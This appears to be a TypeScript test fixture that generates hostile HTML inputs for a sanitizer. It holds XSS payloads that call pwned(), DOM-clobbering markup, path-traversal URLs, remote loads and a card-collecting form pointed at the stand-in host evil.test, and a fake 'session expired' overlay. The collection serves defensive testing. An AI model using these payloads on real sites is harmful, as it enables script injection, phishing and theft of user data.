import { DISGUISES } from './disguises.ts'

/** Markup that tries to leave the site, to load something, to take over names or looks of the page. */

export function links(): string[] {
  return DISGUISES.flatMap((address, at) => {
    const quoted = address.replaceAll('"', '&quot;')
    const holders = [
      `<a href="${quoted}">x</a>`,
      `<img src="${quoted}">`,
      `<area href="${quoted}"><map name=m><area href="${quoted}"></map>`,
      `<a xlink:href="${quoted}">x</a><a href=/ok href="${quoted}">x</a>`,
      `<form action="${quoted}"><button formaction="${quoted}">x</button></form>`,
      `<iframe src="${quoted}"></iframe><embed src="${quoted}"><object data="${quoted}"></object>`,
      `<blockquote cite="${quoted}">x</blockquote><q cite="${quoted}">x</q><link rel=stylesheet href="${quoted}">`,
    ]
    return holders.slice(0, 2).concat(holders[2 + (at % 5)] ?? [])
  })
}

export function clobbering(): string[] {
  const names = [
    'attributes',
    'parentNode',
    'nodeName',
    'children',
    'getElementById',
    'location',
    'cookie',
    'body',
    'forms',
    'boot',
    'root',
    'main',
    '__proto__',
    'constructor',
    'prototype',
    'toString',
    'config',
    'currentScript',
  ]
  return names.flatMap((name) => [
    `<form id="${name}"><input name="${name}"><input id="${name}"></form>`,
    `<a id="${name}" name="${name}" href="/x">x</a><img name="${name}" id="${name}" src="/images/1001/x.svg">`,
    `<p class="${name}" id="${name}" slot="${name}" part="${name}" ${name}="${name}">x</p>`,
  ])
}

export function loading(): string[] {
  return [
    '<img src="https://evil.test/x.png">',
    '<img src="//evil.test/x.png">',
    '<img src="/\\evil.test/x.png">',
    '<img src="\\\\evil.test\\x.png">',
    '<img src="/images/1001/../../evil">',
    '<img src="/images/1001/%2e%2e/%2e%2e/api/reservation">',
    '<img src="/images/1001/..%2f..%2fapi/reservation">',
    '<img src="/images/1001/x.svg?u=//evil.test">',
    '<img src="/images/1001/x.svg#<script>">',
    '<img src="/images/2002/other-site.png">',
    '<img src="/images/10012/x.png">',
    '<img src="/images/1001/">',
    '<img src="/api/reservation/logout">',
    '<img src="images/1001/x.svg" srcset="//evil.test/x.png 2x" sizes=100vw>',
    '<img src="http://own.invalid@evil.test/images/1001/x.svg">',
    '<img src="data:image/svg+xml,<svg onload=pwned()>">',
    '<picture><source srcset="//evil.test/x.png"><img src="/images/1001/x.svg"></picture>',
    '<img lowsrc=//evil.test/x dynsrc=//evil.test/x longdesc=//evil.test/x usemap=#m src=/images/1001/x.svg>',
    '<input type=image src=//evil.test/x.png>',
    '<video poster=//evil.test/x.png><source src=//evil.test/x.mp4></video>',
    '<audio src=//evil.test/x.mp3 autoplay></audio>',
    '<iframe src=//evil.test></iframe>',
    '<iframe srcdoc="<script>parent.pwned()</script>"></iframe>',
    '<embed src=//evil.test/x.swf>',
    '<object data=//evil.test/x><param name=src value=//evil.test></object>',
    '<link rel=stylesheet href=//evil.test/x.css>',
    '<link rel=prefetch href=//evil.test/x><link rel=preconnect href=//evil.test>',
    '<link rel=import href=data:text/html,<script>pwned()</script>>',
    '<meta http-equiv=refresh content="0;url=//evil.test">',
    '<meta http-equiv=Content-Security-Policy content="default-src *">',
    '<base href=//evil.test/><a href=x>x</a><img src=images/1001/x.svg>',
    '<base target="\n<">',
    '<body background=//evil.test/x.png><table background=//evil.test/x.png><tr><td background=//evil.test/x.png>x',
    '<form action=//evil.test method=post><input name=card><button>Pay</button></form>',
    '<a href=/x ping=//evil.test/ping target=_top rel=opener download>x</a>',
    '<portal src=//evil.test></portal><fencedframe src=//evil.test></fencedframe>',
    '<bgsound src=//evil.test/x><layer src=//evil.test/x></layer><ilayer src=//evil.test/x></ilayer>',
    '<applet code=x archive=//evil.test/x.jar></applet>',
    '<html manifest=//evil.test/x>x',
    '<a href="https://shop.test@evil.test/">x</a>',
    '<a href="https://user:word@evil.test/">x</a>',
    '<a href="/.//evil.test">x</a>',
    '<a href="/..//evil.test">x</a>',
    '<a href="/%2e//evil.test">x</a>',
  ]
}

export function styles(): string[] {
  return [
    '<style>*{background:url(//evil.test/x)}</style>x',
    '<style>@import "//evil.test/x.css";</style>',
    '<p style="background:url(//evil.test/x)">x</p>',
    '<p style="position:fixed;inset:0;z-index:9999">Your session has expired</p>',
    '<p style=width:expression(pwned())>x</p>',
    '<p style="-moz-binding:url(//evil.test/x.xml#x)">x</p>',
    '<p style="behavior:url(//evil.test/x.htc)">x</p>',
    '<font color=red face="x" size=7>x</font><center>x</center><p align=right bgcolor=red>x</p>',
    '<p class="dialog modal" id=root data-home-sections=1 role=alertdialog aria-live=assertive aria-hidden=true>x</p>',
    '<p contenteditable spellcheck accesskey=x draggable=true inert hidden popover tabindex=1>x</p>',
    '<style><!--</style><script>pwned()</script>--></style>',
    '<link rel=stylesheet href="data:text/css,*{background:red}">',
    '<marquee behavior=alternate onstart=pwned()>x</marquee><blink>x</blink>',
  ]
}
